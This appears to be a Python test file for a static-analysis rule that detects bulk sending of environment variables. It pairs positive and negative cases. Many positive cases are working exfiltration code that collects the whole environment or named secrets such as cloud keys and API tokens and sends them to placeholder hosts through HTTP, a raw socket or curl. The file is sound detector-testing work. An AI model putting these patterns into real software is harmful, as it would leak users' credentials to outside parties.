import base64
import json
import os
import socket
import subprocess
import threading
import urllib.request
from os import environ
from urllib.request import Request, urlopen

import aiohttp
import httpx
import requests

URL = "https://example.com/collect"


def plain() -> None:
    # ruleid: env-bulk-sent
    requests.post(URL, json=dict(os.environ))
    # ruleid: env-bulk-sent
    httpx.post(URL, json={"env": {**environ}})
    # ruleid: env-bulk-sent
    requests.get(f"{URL}?d={base64.b64encode(str(os.environ).encode())}")
    # ruleid: env-bulk-sent
    requests.get(URL, headers={"X-Data": json.dumps(dict(os.environ))})


def collected() -> None:
    report = {"name": "example"}
    report["env"] = os.environ.copy()
    report["version"] = "1"
    # ruleid: env-bulk-sent
    requests.post(URL, json=report)


def looped() -> None:
    loot = {}
    for name, value in os.environ.items():
        if "KEY" in name or "TOKEN" in name:
            loot[name] = value
    data = json.dumps(loot).encode()
    # ruleid: env-bulk-sent
    request = Request(URL, data=data)
    # ruleid: env-bulk-sent
    urlopen(request)


def by_name() -> None:
    loot = {}
    for name in os.environ:
        loot[name] = os.environ[name]
    # ruleid: env-bulk-sent
    urllib.request.urlopen(URL, json.dumps(loot).encode())


def listed() -> None:
    lines = []
    for name, value in environ.items():
        lines.append(f"{name}={value}")
    channel = socket.create_connection(("192.0.2.1", 443))
    # ruleid: env-bulk-sent
    channel.sendall("\n".join(lines).encode())


async def filtered() -> None:
    secrets = {k: v for k, v in os.environ.items() if "SECRET" in k}
    async with aiohttp.ClientSession() as session:
        async with session.post(
            URL,
            # ruleid: env-bulk-sent
            json={"secrets": secrets},
        ) as answer:
            await answer.text()


def picked() -> None:
    loot = {}
    for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"]:
        loot[name] = os.environ.get(name)
    # ruleid: env-bulk-sent
    requests.post(URL, json=loot)


WANTED = ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY")


def picked_from_constant() -> None:
    loot = {name: os.getenv(name) for name in WANTED}
    # ruleid: env-bulk-sent
    requests.post(URL, json=loot)


def snapshot() -> dict:
    found = dict(os.environ)
    found["pid"] = os.getpid()
    return found


def deliver(payload: dict) -> None:
    try:
        body = json.dumps(payload).encode()
        urllib.request.urlopen(urllib.request.Request(URL, data=body))
    except OSError:
        pass


def by_helpers() -> None:
    # ruleid: env-bulk-sent
    requests.post(URL, json=snapshot())
    # ruleid: env-bulk-sent
    deliver(dict(os.environ))
    # ruleid: env-bulk-sent
    threading.Thread(target=deliver, args=(snapshot(),)).start()
    # ruleid: env-bulk-sent
    subprocess.run(["curl", "-d", json.dumps(dict(os.environ)), URL])


class Telemetry:
    def ping(self) -> None:
        # ruleid: env-bulk-sent
        self.send({"env": dict(os.environ)})

    def send(self, data: dict) -> None:
        requests.post(URL, json=data)


def honest(settings: dict) -> None:
    env = os.environ.copy()
    # ok: env-bulk-sent
    requests.post(env["EXAMPLE_URL"], json={"q": env.get("EXAMPLE_QUERY")})
    # ok: env-bulk-sent
    requests.post(os.environ["EXAMPLE_URL"], json={"key": os.environ.get("EXAMPLE_KEY")})
    # ok: env-bulk-sent
    subprocess.run(["curl", URL], env={**os.environ, "A": "b"})
    key = next(os.environ[n] for n in ("OPENAI_API_KEY", "OTHER_API_KEY") if n in os.environ)
    # ok: env-bulk-sent
    requests.post(URL, headers={"Authorization": key}, json={"q": "x"})
    token = None
    for name in ("GITHUB_TOKEN", "GH_TOKEN"):
        token = token or os.environ.get(name)
    # ok: env-bulk-sent
    requests.post(URL, headers={"Authorization": f"Bearer {token}"}, json={"q": "x"})
    # ok: env-bulk-sent
    requests.post(URL, json={"count": len(os.environ)})
    # ok: env-bulk-sent
    requests.post(URL, json={"ci": "CI" in os.environ})
    # ok: env-bulk-sent
    settings.get(os.environ)
    # ok: env-bulk-sent
    print("requests.post(URL, json=dict(os.environ))")


def own_labels():
    found = {}
    for key, value in os.environ.items():
        if key.startswith("NOTES_LABEL_"):
            found[key] = value
    return found


def all_labels():
    found = {}
    for key, value in os.environ.items():
        if key.startswith("NOTES_LABEL_"):
            print(key)
        found[key] = value
    return found


# ok: env-bulk-sent
requests.post("https://team.example.com/labels", json=own_labels())
# ruleid: env-bulk-sent
requests.post("https://team.example.com/labels", json=all_labels())
names = sorted(name for name in os.environ if name.startswith("NOTES_"))
# ok: env-bulk-sent
requests.post("https://team.example.com/labels", json=names)


def loaded():
    config = load_config(os.environ)
    # ok: env-bulk-sent
    requests.post(config.url, headers={"Authorization": config.api_token})
    found = Settings.from_env(os.environ)
    # ok: env-bulk-sent
    requests.get(found.base_url, timeout=found.timeout)
    # ruleid: env-bulk-sent
    requests.post(URL, json=load_config(os.environ))
    # ruleid: env-bulk-sent
    requests.post(URL, json=found)
    # ruleid: env-bulk-sent
    requests.post(URL, json=found.everything)
